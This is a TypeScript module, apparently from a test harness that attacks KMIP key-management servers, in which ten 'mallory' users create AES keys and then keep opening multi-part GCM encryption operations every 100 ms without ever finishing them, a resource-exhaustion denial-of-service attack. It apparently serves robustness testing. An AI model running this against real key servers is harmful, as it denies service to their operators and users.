// Ten users begin as many multi-part operations as they can and never end one.
import { ENUM } from '../../../kmip/ttlv/enumeration.ts';
import { boolean, bytes, enumeration, integer, structure, text } from '../../../kmip/ttlv/node.ts';
import { TAG } from '../../../kmip/ttlv/tag.ts';
import type { StartedTarget, Target } from '../target.ts';
import type { Attack } from './attack.ts';
import { dial, idIn, keep, kmipMessage, tell } from './wire.ts';

const USERS = 10;
const name = (at: number) => `mallory${at}`;

export default {
  name: 'multi-part operations of ten users that never end',
  async prepare(target: StartedTarget) {
    const attributes = structure(TAG.Attributes, [
      enumeration(TAG.CryptographicAlgorithm, ENUM.CryptographicAlgorithm.AES),
      integer(TAG.CryptographicLength, 256),
      integer(TAG.CryptographicUsageMask, 12),
    ]);
    const ids: string[] = [];
    for (let at = 0; at < USERS; at += 1) {
      const id = idIn(await tell(target, name(at), kmipMessage('Create', enumeration(TAG.ObjectType, ENUM.ObjectType.SymmetricKey), attributes)));
      await tell(target, name(at), kmipMessage('Activate', text(TAG.UniqueIdentifier, id)));
      ids.push(id);
    }
    return ids;
  },
  async run(target: Target, signal: AbortSignal, ids: readonly string[]) {
    const gcm = structure(TAG.CryptographicParameters, [enumeration(TAG.BlockCipherMode, ENUM.BlockCipherMode.GCM)]);
    let count = 0;
    await keep(USERS, signal, async () => {
      const at = count++ % USERS;
      const begin = kmipMessage(
        'Encrypt',
        text(TAG.UniqueIdentifier, ids[at] as string),
        gcm,
        bytes(TAG.Data, new Uint8Array(65_536)),
        boolean(TAG.InitIndicator, true),
      );
      const socket = await dial(target, { client: name(at), listener: true });
      socket.write(begin);
      // Read and ignore the answers; only the number of begun operations matters.
      socket.on('data', () => {});
      const timer = setInterval(() => socket.write(begin), 100);
      socket.on('close', () => clearInterval(timer));
      return socket;
    });
  },
} satisfies Attack;
